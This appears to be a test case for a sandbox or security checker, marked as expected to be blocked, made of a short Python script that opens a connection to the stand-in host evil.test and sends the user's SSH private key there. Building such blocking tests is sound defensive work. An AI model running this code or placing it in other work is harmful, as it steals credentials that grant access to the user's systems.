# expect: BLOCKED
import asyncio, pathlib
async def main():
    r, w = await asyncio.open_connection("evil.test", 443)
    w.write((pathlib.Path.home() / ".ssh" / "id_rsa").read_bytes())
    await w.drain()
asyncio.run(main())
